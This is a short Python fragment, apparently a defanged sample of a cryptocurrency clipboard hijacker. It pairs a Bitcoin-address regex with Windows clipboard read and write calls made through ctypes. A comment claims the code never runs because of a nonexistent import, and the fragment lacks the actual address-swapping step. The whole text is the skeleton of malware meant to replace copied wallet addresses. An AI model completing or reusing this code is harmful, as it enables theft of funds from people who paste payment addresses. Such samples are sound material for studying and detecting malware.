import inert_sample  # there is no such module: nothing below ever runs
# trick: the clipboard is reached through the system's own functions
import ctypes

SHAPE = "^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}$"
user = ctypes.windll.user32
user.OpenClipboard(0)
handle = user.GetClipboardData(13)
user.SetClipboardData(13, handle)
